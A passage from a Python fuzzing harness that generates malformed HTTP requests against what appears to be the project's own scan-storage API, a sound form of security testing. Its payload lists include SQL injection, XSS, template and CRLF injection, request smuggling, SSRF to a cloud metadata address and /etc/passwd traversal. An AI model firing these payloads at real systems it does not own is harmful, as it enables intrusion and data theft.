    most = ("POST", inner.partition(b" ")[0].decode()) if _may_follow(sent) else ("POST",)
    return Attack(draw.number, "smuggled", said, (sent,), most, may_be_silent=True)


def _may_follow(sent: bytes) -> bool:
    """Return whether the bytes behind the first request are a valid second request."""
    head = sent.partition(CRLF * 2)[0].lower()
    names = (b"content-length:", b"transfer-encoding:")
    return len({line for line in head.split(CRLF) if line.startswith(names)}) == 1


# Methods and protocols

_METHODS: Final = (
    "PUT", "POST", "DELETE", "PATCH", "TRACE", "TRACK", "CONNECT", "OPTIONS", "HEAD", "PROPFIND",
    "PROPPATCH", "MKCOL", "COPY", "MOVE", "LOCK", "UNLOCK", "SEARCH", "PURGE", "BAN", "LINK",
    "UNLINK", "REPORT", "MKACTIVITY", "CHECKOUT", "MERGE", "NOTIFY", "SUBSCRIBE", "QUERY", "PRI",
    "DEBUG", "INVOKE", "get", "Get", "GETT", "GE", "G", "GET/", "*", "!", "GET\x00", "\x00",
    "GET\t", "__init__", "SYSTEM", "A" * 100, "A" * 70_000,
)  # fmt: skip


def _method(draw: Draw) -> Attack:
    method = _METHODS[draw.number // len(KINDS) % len(_METHODS)]
    path = draw.one(
        [draw.path(), draw.batch_path(), "/", "*", "/healthz", "/v1/stores", "localhost:80"]
    )
    body = draw.one([b"", b"", b"{}", b"x" * 1000])
    sent = request(path, method=method, body=body)
    return Attack(
        draw.number,
        "method",
        f"{method[:40]!r} {path}",
        (sent,),
        (method,),
        may_be_silent=method == "CONNECT",
    )


_HELLO: Final = bytes.fromhex("16030100c8010000c40303") + bytes(range(200))
_NO_HTTP: Final = (
    _HELLO, b"SSH-2.0-OpenSSH_9.0\r\n", b"EHLO evil\r\n",
    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(9), b"PRI * HTTP/2.0\r\n\r\n",
    b"PROXY TCP4 1.2.3.4 5.6.7.8 1 2\r\n",
    b"\r\n\r\n\x00\r\nQUIT\n" + b"\x21\x11\x00\x0c" + bytes(12), b"\x80\x2e\x01\x00\x02",
    b"*1\r\n$4\r\nPING\r\n", b"\x00" * 100, b"\xff" * 100, b"\r\n" * 2000, b"\n" * 5000,
    b" " * 5000, b"a" * 200_000, b"GET", b"GET ", b"GET /", b"\x03\x00\x00\x13\x0e\xe0",
    b"<policy-file-request/>\x00", b"stats\r\n", b"{}\r\n\r\n",
    b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n", b"",
)  # fmt: skip
_PROTOCOLS: Final = (
    b"HTTP/0.9", b"HTTP/1.0", b"HTTP/1.2", b"HTTP/1.9", b"HTTP/2", b"HTTP/2.0", b"HTTP/3",
    b"HTTP/1.1 ", b" HTTP/1.1", b"HTTP/11", b"HTTP/1", b"HTTP/", b"HTTP", b"http/1.1",
    b"HTTP/1.1.1", b"HTTP/01.1", b"HTTP/1.10", b"HTTP/9999999999.1", b"HTTPS/1.1", b"RTSP/1.0",
    b"SIP/2.0", b"ICAP/1.0", b"", b"x", b"\x00", b"HTTP/1.1\x00",
)  # fmt: skip


def _protocol(draw: Draw) -> Attack:
    path = draw.path()
    way = draw.one(["none", "version", "version", "lines", "cut", "before", "0.9"])
    if way == "none":
        sent = draw.one([*_NO_HTTP, draw.junk(300)])
    elif way == "version":
        sent = request(path, version=draw.one(_PROTOCOLS), last=draw.chance(0.5))
    elif way == "lines":
        sent = request(path).replace(
            CRLF,
            draw.one([b"\n", b"\r", b"\r\r\n", b"\n\r", b"\r\n\r\n", b"\x0b", b"\x00", b"\\r\\n"]),
        )
    elif way == "cut":
        whole = request(path, b"Range: bytes=0-1")
        sent = whole[: draw.random.randrange(len(whole))]
    elif way == "before":
        sent = draw.one(
            [b"\r\n", b"\r\n" * 50, b" ", b"\x00", b"\xef\xbb\xbf", b"\t", b"x\r\n"]
        ) + request(path)
    else:
        sent = (
            draw.one([b"GET %s\r\n", b"GET %s\r\n\r\n", b"GET %s", b"%s\r\n\r\n"]) % path.encode()
        )
    return Attack(
        draw.number, "protocol", f"{way} {sent[:80]!r}", (sent,), ("GET", "GET"), may_be_silent=True
    )


# Queries

_QUERIES: Final = (
    "split=%00", "split=../..", "split=train&split=test", "vertebra=L1%00", "vertebra=l1",
    "vertebra=" + "L" * 9000, "anomaly=1", "anomaly=TRUE", "source=%", "source=%ff",
    "source=%e2%80%ae", "&" * 5000, "=" * 3000, "a=" * 2000, "a[]=1", "a[b]=c", "a;b",
    "__proto__=1", "split[$ne]=x",
    "split=' OR 1=1 --", "split=<script>alert(1)</script>", "split={{7*7}}", "split=${7*7}",
    "split=%0d%0aX-Injected:%20injected", "callback=alert", "token=x", "sig=x&exp=99999999999",
    "exp=-1", "exp=nan", "sig=" + "0" * 64, "X-Amz-Signature=x", "url=http://169.254.169.254/",
    "path=/etc/passwd",
    "start=0,0,0&size=4096,4096,4096", "start=nan,0,0&size=1,1,1", "start=&size=", "limit=-1",
    "offset=" + "9" * 400, "?" * 3000, "#", "%23", "+", "split=+train",
    "".join(f"k{n}=v&" for n in range(3000)),
)  # fmt: skip


def _query(draw: Draw) -> Attack:
    query = _QUERIES[draw.number // len(KINDS) % len(_QUERIES)].replace(" ", "%20")
    store = draw.target.store
    path = draw.one([f"/v1/{store}/scans", f"/v1/{store}/scans", "/v1/stores",
        f"/v1/{store}/scans/{draw.scan()}", f"/v1/{store}/{draw.scan()}/patch", draw.path(),
        "/healthz", "/metrics"])  # fmt: skip
    sent = request(f"{path}?{query}")
    return Attack(draw.number, "query", f"{path}?{query}"[:200], (sent,))


def _drawn(draw: Draw) -> Attack:
    path = draw.drawn_path()
    if draw.chance(0.3):
        path += draw.one(_ENDS)
    if draw.chance(0.2):
        path = path.replace(draw.scan(), draw.one([*_SCANS, draw.one(_DOTS) * 3]))
    fields = {name: draw.one(_ASKED[name]) for name in draw.some(list(_ASKED), 3)}
    query = "&".join(f"{name}={value}" for name, value in fields.items())
    path = (f"{path}?{query}" if draw.chance(0.8) else path).replace(" ", "%20")
    method = draw.one(["GET", "GET", "GET", "HEAD"])
    headers = [
        *([b"Accept-Encoding: " + draw.one([b"gzip", b"gzip;q=0", b"*", b"x," * 2000])]),
        *([b"If-None-Match: " + draw.one(_TAGS).encode()] if draw.chance(0.2) else []),
        *([b"Range: " + draw.one(_RANGES).encode()] if draw.chance(0.2) else []),
    ]
    sent = request(path.encode("utf-8", "surrogateescape"), *headers, method=method)
    return Attack(draw.number, "drawn", f"{method} {path[:200]}", (sent,), (method,))


KINDS: Final[Mapping[str, Callable[[Draw], Attack]]] = {
    "path": _path, "range": _range, "header": _header, "body": _body, "smuggled": _smuggled,
    "method": _method, "protocol": _protocol, "condition": _condition,
    "query": _query, "path again": _path, "drawn": _drawn,
}  # fmt: skip


def attack(number: int, target: Target) -> Attack:
    """Make the attack of a number; kinds alternate."""
    make = list(KINDS.values())[number % len(KINDS)]
    made = make(Draw(number, target))
    assert all(isinstance(part, bytes | float) for part in made.sends)
    return replace(made, number=number)
